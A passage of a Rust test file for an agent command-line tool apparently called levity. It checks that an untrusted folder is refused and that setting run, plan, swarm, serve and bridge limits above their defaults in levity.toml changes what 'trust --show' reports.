    let output = levity_in(place.path(), &["run", "hi"]);
    check(&output, 2, "is not trusted");
}

#[test]
fn limits_without_trust_are_at_most_their_defaults() {
    // The lowest default of each limit, as the commands show it.
    let place = folder(&[]);
    for (command, names) in [
        (
            &["run"][..],
            &["limit-calls", "limit-tool-calls", "max-turns"][..],
        ),
        (&["plan"], &["max-parallel", "max-replans"]),
        (&["swarm"], &["max-delegations"]),
        (&["serve", "http"], &["max-runs"]),
        (&["bridge", "host"], &["max-tasks"]),
    ] {
        let args = [&["config", "show"], command, &["--json"]].concat();
        let shown = text(&levity_in(place.path(), &args));
        for name in names {
            let rows = shown
                .lines()
                .filter_map(|line| serde_json::from_str::<Value>(line).ok());
            let row = rows.into_iter().find(|row| row["name"] == **name).unwrap();
            let default = row["value"].as_str().unwrap().split(';').next().unwrap();
            let default: u32 = default.parse().unwrap();
            for (value, is_free) in [(default, true), (default + 1, false)] {
                put(place.path(), "levity.toml", &format!("{name} = {value}\n"));
                let trust = all(&levity_in(place.path(), &["trust", "--show"]));
                assert_eq!(
                    trust.contains("needs trust"),
                    is_free,
                    "{name} = {value}: {trust}"
                );
            }
            fs::remove_file(place.path().join("levity.toml")).unwrap();
        }
    }
}
